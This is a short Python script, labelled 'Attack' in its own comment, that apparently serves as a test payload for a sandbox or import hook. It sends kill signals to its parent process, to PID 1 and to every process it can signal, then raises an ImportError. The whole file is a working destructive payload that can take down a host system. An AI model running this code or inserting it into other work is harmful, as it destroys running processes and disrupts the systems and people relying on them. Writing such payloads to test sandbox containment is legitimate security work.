# Attack: kill the parent process, pid 1 and every other process it can signal, then raise.
import os
import signal

for target in (os.getppid(), 1):
    for sig in (signal.SIGKILL, signal.SIGTERM):
        try:
            os.kill(target, sig)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
raise ImportError("still alive after killing everything")
